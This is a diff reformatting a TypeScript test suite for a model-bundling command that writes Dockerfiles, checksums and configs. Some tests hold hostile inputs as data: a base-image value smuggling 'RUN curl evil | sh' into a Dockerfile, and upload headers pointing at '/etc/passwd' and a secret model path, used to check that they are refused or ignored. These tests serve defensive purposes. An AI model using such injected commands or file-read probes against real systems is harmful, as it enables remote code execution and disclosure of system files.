@@ -43,7 +43,8 @@ async function withEnv(fn: (env: Env) => Promise<void>): Promise<void> {
   const credit = [
     await writeLogisticModel(repo, 'credit', 1, { modelYaml: MODEL_YAML, featureNames: TINY_LOGISTIC_FEATURES }),
     await writeLogisticModel(repo, 'credit', 2, {
-      modelYaml: MODEL_YAML, featureNames: TINY_LOGISTIC_FEATURES,
+      modelYaml: MODEL_YAML,
+      featureNames: TINY_LOGISTIC_FEATURES,
       model: { ...TINY_LOGISTIC_MODEL, weights: [0.5, -0.2, 2], intercept: 0.1 },
     }),
   ];
@@ -51,13 +52,18 @@ async function withEnv(fn: (env: Env) => Promise<void>): Promise<void> {
   const registry = ModelRegistry.open(join(dir, 'data'), { now: clock() });
   try {
     const imported = registry.importRepository(scanRepository(repo));
-    assert.deepEqual(imported.imported.map((r) => r.version), [1, 2]);
+    assert.deepEqual(
+      imported.imported.map((r) => r.version),
+      [1, 2],
+    );
     for (const v of [1, 2, 3]) {
       const bytes = (await writeSumModel(join(dir, 'scratch'), 'sum', v)).bytes;
       registry.register('sum', bytes, { config: { features: ['a', 'b', 'c', 'd'], reference: 'sum-ref.csv', label: 'y' } });
     }
     await fn({
-      dir, registry, credit,
+      dir,
+      registry,
+      credit,
       out: (name) => join(dir, 'out', name),
       bundle: (options) => writeBundle({ registry: new SqliteRegistry(registry), model: 'credit', ...options }),
     });
@@ -95,8 +101,15 @@ function tree(dir: string): Map<string, Buffer> {
 
 /** Dockerfile instructions as [op, rest], comments and continuations handled. */
 function instructions(text: string): [string, string][] {
-  return text.replace(/\\\n/g, ' ').split('\n').map((l) => l.trim()).filter((l) => l && !l.startsWith('#'))
-    .map((l) => { const i = l.indexOf(' '); return [l.slice(0, i), l.slice(i + 1).trim()]; });
+  return text
+    .replace(/\\\n/g, ' ')
+    .split('\n')
+    .map((l) => l.trim())
+    .filter((l) => l && !l.startsWith('#'))
+    .map((l) => {
+      const i = l.indexOf(' ');
+      return [l.slice(0, i), l.slice(i + 1).trim()];
+    });
 }
 
 test('a bundle holds the verified artifacts, model.yaml, reference data, config, SHA256SUMS, Dockerfile and README', async () => {
@@ -113,11 +126,20 @@ test('a bundle holds the verified artifacts, model.yaml, reference data, config,
     assert.equal(result.selectedBy, 'explicit');
     assert.deepEqual(result.warnings, []);
     assert.deepEqual(result.files, [
-      'Dockerfile', 'README.md', 'SHA256SUMS', 'config.yaml',
-      'models/credit/1/model.onnx', 'models/credit/2/model.onnx', 'models/credit/model.yaml', 'models/credit/reference.csv',
+      'Dockerfile',
+      'README.md',
+      'SHA256SUMS',
+      'config.yaml',
+      'models/credit/1/model.onnx',
+      'models/credit/2/model.onnx',
+      'models/credit/model.yaml',
+      'models/credit/reference.csv',
     ]);
     assert.deepEqual([...tree(out).keys()], result.files);
-    assert.deepEqual(result.versions, env.credit.map((f) => ({ version: f.version, sha256: sha(f.bytes), size: f.bytes.length })));
+    assert.deepEqual(
+      result.versions,
+      env.credit.map((f) => ({ version: f.version, sha256: sha(f.bytes), size: f.bytes.length })),
+    );
     for (const f of env.credit) {
       assert.deepEqual(readFileSync(join(out, 'models', 'credit', String(f.version), 'model.onnx')), Buffer.from(f.bytes));
       assert.equal(env.registry.getVersion('credit', f.version).sha256, sha(f.bytes));
@@ -145,8 +167,14 @@ test('SHA256SUMS lists every payload file with its sha256, and sha256sum -c agre
     const out = env.out('sums');
     const result = await env.bundle({ versions: ['1', '2'], out });
     const text = readFileSync(join(out, 'SHA256SUMS'), 'utf8');
-    const lines = text.trimEnd().split('\n').map((l) => /^([0-9a-f]{64}) {2}(\S+)$/.exec(l));
-    assert.ok(lines.every((m) => m !== null), 'sha256sum text format: hash, two spaces, relative path');
+    const lines = text
+      .trimEnd()
+      .split('\n')
+      .map((l) => /^([0-9a-f]{64}) {2}(\S+)$/.exec(l));
+    assert.ok(
+      lines.every((m) => m !== null),
+      'sha256sum text format: hash, two spaces, relative path',
+    );
     const listed = lines.map((m) => m![2]!);
     assert.deepEqual(listed, result.files.filter((f) => f.startsWith('models/') || f === 'config.yaml').sort());
     for (const m of lines) assert.equal(m![1], sha(readFileSync(join(out, m![2]!))), m![2]);
@@ -171,7 +199,10 @@ test('the Dockerfile builds on the base image, copies and verifies the payload, 
     assert.match(text, /^# Model bundle written by `scoreline bundle`: model 'credit', version 2\./);
     const ins = instructions(text);
     const of = (op: string) => ins.filter(([o]) => o === op).map(([, rest]) => rest);
-    assert.deepEqual(ins.map(([op]) => op), ['FROM', 'COPY', 'COPY', 'RUN', 'USER', 'CMD']);
+    assert.deepEqual(
+      ins.map(([op]) => op),
+      ['FROM', 'COPY', 'COPY', 'RUN', 'USER', 'CMD'],
+    );
     assert.deepEqual(of('FROM'), ['scoreline:0.1.0']);
     assert.deepEqual(of('USER'), ['node']);
     const cmd = JSON.parse(of('CMD')[0]!) as string[];
@@ -190,7 +221,10 @@ test('the Dockerfile builds on the base image, copies and verifies the payload, 
         inImage.push(...files);
       }
     }
-    const sums = readFileSync(join(out, 'SHA256SUMS'), 'utf8').trimEnd().split('\n').map((l) => `/app/bundle/${l.slice(66)}`);
+    const sums = readFileSync(join(out, 'SHA256SUMS'), 'utf8')
+      .trimEnd()
+      .split('\n')
+      .map((l) => `/app/bundle/${l.slice(66)}`);
     assert.deepEqual(inImage.sort(), [...sums, '/app/bundle/SHA256SUMS'].sort());
 
     // The CMD is a valid serve command line once /app/bundle is this folder.
@@ -204,7 +238,11 @@ test('the Dockerfile builds on the base image, copies and verifies the payload, 
     const custom = env.out('custom');
     await env.bundle({ versions: ['2'], out: custom, baseImage: `registry.example.com/ml/scoreline:0.1.0@sha256:${'a'.repeat(64)}` });
     assert.match(readFileSync(join(custom, 'Dockerfile'), 'utf8'), /^FROM registry\.example\.com\/ml\/scoreline:0\.1\.0@sha256:a{64}$/m);
-    await rejects(() => env.bundle({ versions: ['2'], out: env.out('evil'), baseImage: 'scoreline\nRUN curl evil | sh' }), 'BAD_REQUEST', /not a container image reference/);
+    await rejects(
+      () => env.bundle({ versions: ['2'], out: env.out('evil'), baseImage: 'scoreline\nRUN curl evil | sh' }),
+      'BAD_REQUEST',
+      /not a container image reference/,
+    );
     assert.equal(existsSync(env.out('evil')), false);
   });
 });
@@ -215,9 +253,15 @@ test('the models folder is a repository the server scans, and the config validat
     const result = await env.bundle({ versions: ['1', '2'], out });
     const scan = scanRepository(join(out, 'models'));
     assert.deepEqual(scan.skipped, []);
-    assert.deepEqual(scan.models.map((m) => m.name), ['credit']);
+    assert.deepEqual(
+      scan.models.map((m) => m.name),
+      ['credit'],
+    );
     const credit = scan.models[0]!;
-    assert.deepEqual(credit.versions.map((v) => ({ version: v.version, sha256: v.sha256, size: v.size })), result.versions);
+    assert.deepEqual(
+      credit.versions.map((v) => ({ version: v.version, sha256: v.sha256, size: v.size })),
+      result.versions,
+    );
     assert.deepEqual(credit.config, MODEL_YAML);
 
     const raw = YAML.parse(readFileSync(join(out, 'config.yaml'), 'utf8'));
@@ -230,17 +274,32 @@ test('the models folder is a repository the server scans, and the config validat
     // Server settings given to the bundle are validated and written as given, not as resolved defaults.
     const tuned = env.out('tuned');
     await env.bundle({ versions: ['1'], out: tuned, serverConfig: { batching: { maxBatchSize: 32 }, log: { level: 'warn' } } });
-    assert.deepEqual(YAML.parse(readFileSync(join(tuned, 'config.yaml'), 'utf8')),
-      { modelRepository: 'models', dataDir: '/data', batching: { maxBatchSize: 32 }, log: { level: 'warn' } });
-    await rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { server: { port: 70000 } } }), 'CONFIG_INVALID', /server\.port/);
-    await rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { dataDir: '/elsewhere' } }), 'BAD_REQUEST', /dataDir/);
-    await rejects(() => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { features: { definitions: 'f.yaml' } } }),
-      'BAD_REQUEST', /features\.definitions/);
+    assert.deepEqual(YAML.parse(readFileSync(join(tuned, 'config.yaml'), 'utf8')), {
+      modelRepository: 'models',
+      dataDir: '/data',
+      batching: { maxBatchSize: 32 },
+      log: { level: 'warn' },
+    });
+    await rejects(
+      () => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { server: { port: 70000 } } }),
+      'CONFIG_INVALID',
+      /server\.port/,
+    );
+    await rejects(
+      () => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { dataDir: '/elsewhere' } }),
+      'BAD_REQUEST',
+      /dataDir/,
+    );
+    await rejects(
+      () => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { features: { definitions: 'f.yaml' } } }),
+      'BAD_REQUEST',
+      /features\.definitions/,
+    );
     assert.equal(existsSync(env.out('bad-config')), false);
   });
 });
 
-test('a real server started on the bundle\'s config serves the bundled versions', async () => {
+test("a real server started on the bundle's config serves the bundled versions", async () => {
   await withEnv(async (env) => {
     const out = env.out('serve');
     await env.bundle({ versions: ['1', '2'], out });
@@ -266,39 +325,77 @@ test('default versions: every version the deployment routes to, else the latest'
   await withEnv(async (env) => {
     const latest = await env.bundle({ out: env.out('latest') });
     assert.equal(latest.selectedBy, 'latest');
-    assert.deepEqual(latest.versions.map((v) => v.version), [2]);
+    assert.deepEqual(
+      latest.versions.map((v) => v.version),
+      [2],
+    );
 
     env.registry.saveDeployment('credit', { strategy: 'canary', stable: 1, canary: 2, percent: 10 }, { action: 'deploy' });
     const canary = await env.bundle({ out: env.out('canary') });
     assert.equal(canary.selectedBy, 'deployment');
-    assert.deepEqual(canary.versions.map((v) => v.version), [1, 2]);
+    assert.deepEqual(
+      canary.versions.map((v) => v.version),
+      [1, 2],
+    );
 
     // A deployer that wraps the strategy with its runtime state is understood too.
     env.registry.saveDeployment('credit', { strategy: { strategy: 'direct', version: 1 }, step: 0, since: 'x' }, { action: 'deploy' });
-    assert.deepEqual((await env.bundle({ out: env.out('direct') })).versions.map((v) => v.version), [1]);
-    env.registry.saveDeployment('credit', {
-      strategy: 'ab', variants: [{ name: 'a', version: 2, weight: 50 }, { name: 'b', version: 1, weight: 50 }, { name: 'c', version: 2, weight: 0 }],
-    }, { action: 'deploy' });
-    assert.deepEqual((await env.bundle({ out: env.out('ab') })).versions.map((v) => v.version), [1, 2]);
+    assert.deepEqual(
+      (await env.bundle({ out: env.out('direct') })).versions.map((v) => v.version),
+      [1],
+    );
+    env.registry.saveDeployment(
+      'credit',
+      {
+        strategy: 'ab',
+        variants: [
+          { name: 'a', version: 2, weight: 50 },
+          { name: 'b', version: 1, weight: 50 },
+          { name: 'c', version: 2, weight: 0 },
+        ],
+      },
+      { action: 'deploy' },
+    );
+    assert.deepEqual(
+      (await env.bundle({ out: env.out('ab') })).versions.map((v) => v.version),
+      [1, 2],
+    );
 
     env.registry.saveDeployment('credit', { something: 'else' }, { action: 'deploy' });
     await rejects(() => env.bundle({ out: env.out('unknown') }), 'BAD_REQUEST', /name the versions to bundle/);
     // Explicit versions do not need the deployment.
-    assert.deepEqual((await env.bundle({ versions: ['latest'], out: env.out('explicit') })).versions.map((v) => v.version), [2]);
+    assert.deepEqual(
+      (await env.bundle({ versions: ['latest'], out: env.out('explicit') })).versions.map((v) => v.version),
+      [2],
+    );
   });
 });
 
 test('versions by alias and latest; bad references are refused before anything is written', async () => {
   await withEnv(async (env) => {
     env.registry.setAlias('sum', 'champion', 2);
-    const r = await writeBundle({ registry: new SqliteRegistry(env.registry), model: 'sum', versions: ['champion', 'sum@latest', '2'], out: env.out('sum') });
-    assert.deepEqual(r.versions.map((v) => v.version), [2, 3]);
+    const r = await writeBundle({
+      registry: new SqliteRegistry(env.registry),
+      model: 'sum',
+      versions: ['champion', 'sum@latest', '2'],
+      out: env.out('sum'),
+    });
+    assert.deepEqual(
+      r.versions.map((v) => v.version),
+      [2, 3],
+    );
     // No reference CSV anywhere for versions registered from bytes: the bundle says so and leaves the keys out.
     assert.equal(r.warnings.length, 1);
     assert.match(r.warnings[0]!, /reference data 'sum-ref\.csv'/);
     assert.deepEqual(YAML.parse(readFileSync(join(env.out('sum'), 'models/sum/model.yaml'), 'utf8')), { features: ['a', 'b', 'c', 'd'] });
-    assert.match(readFileSync(join(env.out('sum'), 'README.md'), 'utf8'), /## Warnings\n\n- model\.yaml names the reference data 'sum-ref\.csv'/);
-    assert.deepEqual(scanRepository(join(env.out('sum'), 'models')).models[0]!.versions.map((v) => v.version), [2, 3]);
+    assert.match(
+      readFileSync(join(env.out('sum'), 'README.md'), 'utf8'),
+      /## Warnings\n\n- model\.yaml names the reference data 'sum-ref\.csv'/,
+    );
+    assert.deepEqual(
+      scanRepository(join(env.out('sum'), 'models')).models[0]!.versions.map((v) => v.version),
+      [2, 3],
+    );
 
     await rejects(() => env.bundle({ versions: ['sum@1'], out: env.out('x') }), 'BAD_REQUEST', /names model 'sum'/);
     await rejects(() => env.bundle({ versions: ['9'], out: env.out('x') }), 'VERSION_NOT_FOUND');
@@ -315,10 +412,17 @@ test('versions with different model.yaml settings cannot share a bundle', async 
     const scratch = join(env.dir, 'mixed');
     env.registry.register('mixed', (await writeSumModel(scratch, 'm', 1)).bytes, { config: { batching: { maxBatchSize: 8 } } });
     env.registry.register('mixed', (await writeSumModel(scratch, 'm', 2)).bytes, { config: { batching: { maxBatchSize: 16 } } });
-    await rejects(() => writeBundle({ registry: new SqliteRegistry(env.registry), model: 'mixed', versions: ['1', '2'], out: env.out('mixed') }), 'CONFLICT',
-      /versions 1 and 2 of model 'mixed' have different model\.yaml settings/);
+    await rejects(
+      () => writeBundle({ registry: new SqliteRegistry(env.registry), model: 'mixed', versions: ['1', '2'], out: env.out('mixed') }),
+      'CONFLICT',
+      /versions 1 and 2 of model 'mixed' have different model\.yaml settings/,
+    );
     assert.equal(existsSync(env.out('mixed')), false);
-    assert.equal((await writeBundle({ registry: new SqliteRegistry(env.registry), model: 'mixed', versions: ['2'], out: env.out('mixed') })).versions.length, 1);
+    assert.equal(
+      (await writeBundle({ registry: new SqliteRegistry(env.registry), model: 'mixed', versions: ['2'], out: env.out('mixed') })).versions
+        .length,
+      1,
+    );
   });
 });
 
@@ -352,9 +456,15 @@ test('a non-empty folder is refused unless forced; force replaces the previous b
     writeFileSync(join(out, 'notes.txt'), 'mine');
     const second = await env.bundle({ versions: ['2'], out, force: true });
     assert.equal(existsSync(join(out, 'models', 'credit', '1')), false, 'the old version is gone');
-    assert.deepEqual([...tree(out).keys()].filter((f) => f !== 'notes.txt'), second.files);
-    assert.equal(readFileSync(join(out, 'notes.txt'), 'utf8'), 'mine', 'files that are not the bundle\'s are left alone');
-    assert.deepEqual(scanRepository(join(out, 'models')).models[0]!.versions.map((v) => v.version), [2]);
+    assert.deepEqual(
+      [...tree(out).keys()].filter((f) => f !== 'notes.txt'),
+      second.files,
+    );
+    assert.equal(readFileSync(join(out, 'notes.txt'), 'utf8'), 'mine', "files that are not the bundle's are left alone");
+    assert.deepEqual(
+      scanRepository(join(out, 'models')).models[0]!.versions.map((v) => v.version),
+      [2],
+    );
 
     writeFileSync(join(env.dir, 'a-file'), '');
     await rejects(() => env.bundle({ versions: ['2'], out: join(env.dir, 'a-file') }), 'CONFLICT', /not a folder/);
@@ -371,11 +481,18 @@ test('a tampered artifact in the registry stops the bundle with the tamper error
     writeFileSync(path, bytes);
 
     const out = env.out('tampered');
-    await rejects(() => env.bundle({ versions: ['1', '2'], out }), 'ARTIFACT_TAMPERED', new RegExp(`artifact ${sha256} was modified on disk`));
+    await rejects(
+      () => env.bundle({ versions: ['1', '2'], out }),
+      'ARTIFACT_TAMPERED',
+      new RegExp(`artifact ${sha256} was modified on disk`),
+    );
     assert.equal(existsSync(out), false, 'no half bundle');
     assert.equal(env.registry.counters().tamperedRefusals, 1);
     // The intact version still bundles.
-    assert.deepEqual((await env.bundle({ versions: ['1'], out })).versions.map((v) => v.version), [1]);
+    assert.deepEqual(
+      (await env.bundle({ versions: ['1'], out })).versions.map((v) => v.version),
+      [1],
+    );
   });
 });
 
@@ -398,7 +515,7 @@ test('reference rows come from the registry, never from a path recorded with a v
   });
 });
 
-test('a bundle of versions uploaded with X-Scoreline-Source holds the registry\'s bytes, never the file the header names', async () => {
+test("a bundle of versions uploaded with X-Scoreline-Source holds the registry's bytes, never the file the header names", async () => {
   const dir = mkdtempSync(join(tmpdir(), 'scoreline-bundle-upload-'));
   const repo = join(dir, 'repo');
   const data = join(dir, 'data');
@@ -412,12 +529,19 @@ test('a bundle of versions uploaded with X-Scoreline-Source holds the registry\'
   try {
     const token = readFileSync(join(data, 'admin-token'), 'utf8').trim();
     const uploads = new Map<number, Uint8Array>();
-    for (const [k, declared] of [[2, join(dir, 'secret', '1', 'model.onnx')], [3, '/etc/passwd']] as const) {
-      const bytes = (await writeLogisticModel(join(dir, 'scratch'), 'credit', k, {
-        featureNames: TINY_LOGISTIC_FEATURES, model: { ...TINY_LOGISTIC_MODEL, intercept: k },
-      })).bytes;
+    for (const [k, declared] of [
+      [2, join(dir, 'secret', '1', 'model.onnx')],
+      [3, '/etc/passwd'],
+    ] as const) {
+      const bytes = (
+        await writeLogisticModel(join(dir, 'scratch'), 'credit', k, {
+          featureNames: TINY_LOGISTIC_FEATURES,
+          model: { ...TINY_LOGISTIC_MODEL, intercept: k },
+        })
+      ).bytes;
       const r = await request(`${server.url}/admin/models/credit/versions`, {
-        method: 'POST', body: bytes,
+        method: 'POST',
+        body: bytes,
         headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream', 'x-scoreline-source': declared },
       });
       assert.equal(r.status, 201, r.text);
@@ -425,14 +549,28 @@ test('a bundle of versions uploaded with X-Scoreline-Source holds the registry\'
       uploads.set(k, bytes);
     }
     const out = join(dir, 'bundle');
-    const cli = spawnSync(process.execPath, [CLI, 'bundle', '--data-dir', data, '--model', 'credit', '--version', '2', '--version', '3', '--out', out], { encoding: 'utf8' });
+    const cli = spawnSync(
+      process.execPath,
+      [CLI, 'bundle', '--data-dir', data, '--model', 'credit', '--version', '2', '--version', '3', '--out', out],
+      { encoding: 'utf8' },
+    );
     assert.equal(cli.status, 0, cli.stderr);
     const files = tree(out);
-    assert.deepEqual([...files.keys()], [
-      'Dockerfile', 'README.md', 'SHA256SUMS', 'config.yaml',
-      'models/credit/2/model.onnx', 'models/credit/3/model.onnx', 'models/credit/model.yaml', 'models/credit/reference.csv',
-    ]);
-    for (const [k, bytes] of uploads) assert.ok(files.get(`models/credit/${k}/model.onnx`)!.equals(Buffer.from(bytes)), `v${k} is the uploaded artifact`);
+    assert.deepEqual(
+      [...files.keys()],
+      [
+        'Dockerfile',
+        'README.md',
+        'SHA256SUMS',
+        'config.yaml',
+        'models/credit/2/model.onnx',
+        'models/credit/3/model.onnx',
+        'models/credit/model.yaml',
+        'models/credit/reference.csv',
+      ],
+    );
+    for (const [k, bytes] of uploads)
+      assert.ok(files.get(`models/credit/${k}/model.onnx`)!.equals(Buffer.from(bytes)), `v${k} is the uploaded artifact`);
     // The reference rows are the ones the registry stored from the repository, which the uploads inherited with its model.yaml.
     assert.equal(files.get('models/credit/reference.csv')!.toString(), REFERENCE_CSV);
     const passwd = readFileSync('/etc/passwd');
